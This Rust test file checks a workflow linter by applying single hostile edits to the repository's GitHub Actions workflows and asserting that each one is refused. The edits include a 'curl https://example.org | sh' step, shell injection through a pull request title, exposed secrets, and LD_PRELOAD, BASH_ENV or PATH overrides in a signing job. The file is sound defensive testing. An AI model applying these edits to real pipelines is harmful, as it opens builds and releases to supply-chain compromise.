//! Our own workflows pass; each way to weaken one is refused, and for the right reason.

use super::identity::OUR_PROGRAM;
use super::*;
use crate::workspace;

/// A workflow of this repository, changed in one place.
fn changed(name: &str, from: &str, to: &str) -> Vec<String> {
    let file = Path::new(".github/workflows").join(name);
    let text = std::fs::read_to_string(workspace::root().join(&file)).unwrap();
    assert!(from.is_empty() || text.contains(from), "{name} has no `{from}`");
    let text = if from.is_empty() { text } else { text.replacen(from, to, 1) };
    let workflow = Workflow::read(&file, &text).unwrap();
    check(&workflow).into_iter().map(|finding| finding.message).collect()
}

#[test]
fn ours_pass() {
    for entry in std::fs::read_dir(workspace::root().join(".github/workflows")).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert_eq!(changed(&name, "", ""), Vec::<String>::new(), "{name}");
    }
}

/// Each change of a workflow is refused for its reason.
fn refused(table: &[(&str, &str, &str, &str)]) {
    for (file, from, to, why) in table {
        let messages = changed(file, from, to);
        assert!(
            messages.iter().any(|message| message.contains(why)),
            "{file}: `{from}` → `{to}`: {messages:?}"
        );
    }
}

#[test]
fn a_weakened_workflow_is_refused() {
    let hash = "3d3c42e5aac5ba805825da76410c181273ba90b1";
    refused(&[
        // Not pinned, pinned by a tag, by a branch, by a short hash, with no word which version it is.
        ("ci.yml", &format!("@{hash} # v7.0.1"), "", "is not pinned by a full hash"),
        ("ci.yml", &format!("@{hash} # v7.0.1"), "@v7", "is not pinned by a full hash"),
        ("ci.yml", &format!("@{hash}"), "@main", "is not pinned by a full hash"),
        ("ci.yml", hash, "3d3c42e", "is not pinned by a full hash"),
        ("ci.yml", &format!("{hash} # v7.0.1"), hash, "no comment `vX.Y.Z`"),
        ("ci.yml", "# v7.0.1", "# v7", "no comment `vX.Y.Z`"),
        // Rights.
        ("ci.yml", "permissions: {}", "permissions: write-all", "the permissions at the top"),
        ("ci.yml", "permissions: {}", "permissions: read-all", "the permissions at the top"),
        ("ci.yml", "permissions: {}\n", "", "no `permissions: {}` at the top"),
        (
            "ci.yml",
            "permissions:\n      contents: read # the checkout\n",
            "permissions: write-all\n",
            "the job `ci` has `write-all`",
        ),
        ("ci.yml", "contents: read # the checkout", "contents: write", "no comment says why"),
        // Who starts it.
        ("ci.yml", "  pull_request:", "  pull_request_target:", "with our rights"),
        (
            "ci.yml",
            "  pull_request:",
            "  workflow_run:\n    workflows: [zizmor]",
            "with our rights",
        ),
        // What an outsider wrote, in a script.
        (
            "ci.yml",
            "run: bash .ci/run",
            "run: echo ${{ github.event.pull_request.title }}",
            "hand the value in by `env`",
        ),
        ("ci.yml", "run: bash .ci/run", "run: curl https://example.org | sh", "runs what it"),
        ("ci.yml", "    timeout-minutes: 60\n", "", "has no `timeout-minutes`"),
        ("ci.yml", "persist-credentials: false", "fetch-depth: 1", "leaves its token"),
        ("ci.yml", "ubuntu-24.04", "ubuntu-latest", "which changes"),
        ("ci.yml", "ubuntu-24.04", "self-hosted", "which changes"),
        ("ci.yml", "    shell: bash", "    shell: sh", "a failure in a pipe"),
        ("ci.yml", "step-security/harden-runner@", "octo/runner@", "harden-runner"),
        // Steps that cannot fail.
        ("ci.yml", "run: bash .ci/run", "run: bash .ci/run || true", "cannot fail"),
        (
            "ci.yml",
            "        run: bash .ci/run",
            "        continue-on-error: true\n        run: bash .ci/run",
            "cannot fail",
        ),
        (
            "ci.yml",
            "    timeout-minutes: 60\n",
            "    timeout-minutes: 60\n    defaults:\n      run:\n        shell: sh\n",
            "has a shell of its own",
        ),
        ("ci.yml", "${{ github.workspace }}", "${{ secrets.TOKEN }}", "uses a secret"),
        ("zizmor.yml", "advanced-security: false", "online-audits: true", "findings fail nothing"),
    ]);
}

#[test]
fn a_weakened_release_is_refused() {
    refused(&[
        // `gh` says no to both, and a release would end at its last step.
        (
            "release.yml",
            "--draft --verify-tag",
            "--repo o/r --draft --verify-tag",
            "no tag to take",
        ),
        (
            "release.yml",
            " path: dist\n      - name: The tag as it was signed, with its message\n        run: git fetch",
            " path: dist\n      - name: The tag as it was signed, with its message\n        run: git show",
            "no tag to take",
        ),
        ("release.yml", "--tag\n", "--tag; true\n", "cannot fail"),
        (
            "release.yml",
            "run: cargo xtask verify",
            "run: exit 0; cargo xtask verify",
            "cannot fail",
        ),
        (
            "release.yml",
            "    needs: sign\n",
            "    needs: sign\n    if: always()\n",
            "after a failure",
        ),
        (
            "release.yml",
            "run: cargo xtask verify \"target",
            "run: if ! cargo xtask verify \"target",
            "no job `verify` runs",
        ),
        ("release.yml", "--tag\n", "--tag & wait\n", "no job `verify` runs"),
        ("release.yml", "--tag\n", "--tag | tee log\n", "no job `verify` runs"),
        (
            "release.yml",
            "run: cargo xtask verify",
            "run: |\n          trap true EXIT\n          cargo xtask verify",
            "no job `verify` runs",
        ),
        (
            "release.yml",
            "        run: cargo xtask verify",
            "        if: github.actor != 'octo'\n        run: cargo xtask verify",
            "that may be left out",
        ),
        // Releases.
        ("release.yml", "cancel-in-progress: false", "cancel-in-progress: true", "be cancelled"),
        ("release.yml", "  cancel-in-progress: false\n", "", "no `cancel-in-progress: false`"),
        (
            "release.yml",
            "      - name: Build binaries",
            "      - uses: actions/cache@55cc8345863c7cc4c66a329aec7e433d2d1c52a9 # v6.1.0\n\
             \x20     - name: Build binaries",
            "a release uses a cache",
        ),
        (
            "release.yml",
            "      - name: Build binaries",
            "      - uses: Swatinem/rust-cache@c19371144df3bb44fab255c43d04cbc2ab54d1c4 # v2.9.1\n\
             \x20     - name: Build binaries",
            "a release uses a cache",
        ),
        ("release.yml", "    needs: verify\n", "    needs: sign\n", "what was not verified"),
        ("release.yml", "    needs: compare\n", "    needs: gate\n", "`sign` does not wait for"),
        ("release.yml", "cargo xtask verify", "echo", "no job `verify` runs"),
        ("release.yml", "diff --recursive", "ls", "no job `compare` runs"),
        ("release.yml", " --draft ", " ", "without a person"),
    ]);
}

#[test]
fn who_can_sign_builds_and_loads_nothing() {
    let files = "          files=(SHA256SUMS dsops-*)\n";
    let with = |line: &str| format!("          {line}\n{files}");
    let image = "image=$(echo *.oci.json)";
    let job_env = "    environment: release\n    permissions:\n      id-token";
    let set = |name: &str| {
        job_env.replacen("    perm", &format!("    env:\n      {name}: dist/x\n    perm"), 1)
    };
    let hidden = format!("cp x \\\n            {OUR_PROGRAM}");
    let downloads = "          path: dist\n      - name: It is what both builders made\n";
    let downloaded = downloads.replace("dist\n", "${{ runner.temp }}\n");
    let (sums, unchecked) =
        ("sha256sum --check --strict SHA256SUMS\n", "does not check what it runs");
    let hash = "a".repeat(40);
    let (attest, other) = (
        "uses: actions/attest@",
        format!("uses: octo/attest@{hash} # v1.2.3\n      - uses: actions/attest@"),
    );
    refused(&[
        ("release.yml", files, &with("cargo xtask sign"), "can sign, and runs `cargo`"),
        ("release.yml", files, &with("echo | sh"), "can sign, and runs `sh`"),
        ("release.yml", files, &with("true && npm ci"), "can sign, and runs `npm`"),
        ("release.yml", files, &with("FLAGS=-O2 make"), "can sign, and runs `make`"),
        ("release.yml", files, &with("x=(a); make x=(b)"), "can sign, and runs `make`"),
        ("release.yml", image, "image=$(make image)", "can sign, and runs `make`"),
        ("release.yml", image, "image=`make image`", "can sign, and runs `make`"),
        // What a shell reads before a command, and commands within others.
        ("release.yml", files, &with("for i in 1; do make; done"), "can sign, and runs `make`"),
        ("release.yml", files, &with("if ! make; then echo; fi"), "can sign, and runs `make`"),
        ("release.yml", files, &with("cp <(make image) x"), "can sign, and runs `make`"),
        ("release.yml", files, &with("echo > >(make image)"), "can sign, and runs `make`"),
        // Another program by the same name, and what a shell loads first.
        ("release.yml", job_env, &set("BASH_ENV"), "can sign, and sets `BASH_ENV`"),
        ("release.yml", job_env, &set("ENV"), "can sign, and sets `ENV`"),
        ("release.yml", job_env, &set("PATH"), "can sign, and sets `PATH`"),
        ("release.yml", job_env, &set("LD_PRELOAD"), "can sign, and sets `LD_PRELOAD`"),
        ("release.yml", "LC_ALL: C #", "BASH_ENV: dist/x #", "can sign, and sets `BASH_ENV`"),
        ("release.yml", "LC_ALL: C #", "E: ${{ github.env }} #", "can sign, and sets `${{"),
        ("release.yml", files, &with("PATH=. cp a b"), "can sign, and names `PATH`"),
        ("release.yml", files, &with("for PATH in .; do cp a b; done"), "names `PATH`"),
        ("release.yml", files, &with("echo BASH_ENV=x >> \"${GITHUB_ENV}\""), "names `BASH_ENV`"),
        ("release.yml", files, &with("cp x \"${GITHUB_ENV}\""), "names `GITHUB_ENV`"),
        ("release.yml", files, &with("echo . > \"$GITHUB_PATH\""), "names `GITHUB_PATH`"),
        // Another program in the place of the one that was checked.
        ("release.yml", files, &with(&format!("install x {OUR_PROGRAM}")), "may change what"),
        ("release.yml", files, &with(&format!("cp x {OUR_PROGRAM}")), "may change what"),
        ("release.yml", files, &with("mv x \"$RUNNER_TEMP\"/dsops"), "may change what"),
        ("release.yml", files, &with(&format!("echo x > {OUR_PROGRAM}")), "may change what"),
        ("release.yml", files, &with(&hidden), "may change what"),
        ("release.yml", downloads, &downloaded, "may change what"),
        // It runs before it is checked.
        ("release.yml", sums, &format!("{OUR_PROGRAM} sign x\n          {sums}"), unchecked),
        ("release.yml", sums, &format!("test x && {OUR_PROGRAM}\n          {sums}"), unchecked),
        ("release.yml", attest, &other, "can sign, and uses `octo/attest`"),
        (
            "release.yml",
            "    environment: release\n    permissions:\n      id-token",
            "    environment: release\n    container: octo/image\n    permissions:\n      id-token",
            "can sign, and has `container`",
        ),
        (
            "release.yml",
            "sha256sum --check --strict SHA256SUMS",
            "echo",
            "does not check what it runs",
        ),
        (
            "release.yml",
            "sha256sum --check --strict \"${RUNNER_TEMP}/sums\"",
            "sha256sum --check \"${RUNNER_TEMP}/sums\"",
            "does not check what it runs",
        ),
        (
            "release.yml",
            "${{ needs.compare.outputs.sums }}",
            "${{ github.sha }}",
            "does not check what it runs",
        ),
        ("scorecard.yml", "ossf/scorecard-action@", "octo/scorecard-action@", "can sign, and uses"),
    ]);
}

#[test]
fn rights_in_a_release_need_a_person() {
    let file = Path::new(".github/workflows/release.yml");
    let text = std::fs::read_to_string(workspace::root().join(file)).unwrap();
    let text = text.replace("    environment: release\n", "");
    let messages: Vec<_> = check(&Workflow::read(file, &text).unwrap())
        .into_iter()
        .map(|finding| finding.message)
        .collect();
    assert!(messages.iter().any(|m| m.contains("`draft` may write contents unreviewed")));
    assert!(messages.iter().any(|m| m.contains("`sign` may write id-token")), "{messages:?}");
    let text = text.replace("egress-policy: block", "egress-policy: audit");
    let open = check(&Workflow::read(file, &text).unwrap());
    assert!(open.iter().any(|finding| finding.message.contains("may reach any host")));
}

#[test]
fn pins() {
    let hash = "a".repeat(40);
    assert!(is_pinned(&format!("owner/name@{hash}")));
    assert!(is_pinned(&format!("owner/name/path@{hash}")));
    assert!(is_pinned(&format!("docker://image@sha256:{}", "b".repeat(64))));
    for bad in ["owner/name", "owner/name@v1", "docker://image:1", &format!("name@{hash}")] {
        assert!(!is_pinned(bad), "{bad}");
    }
}
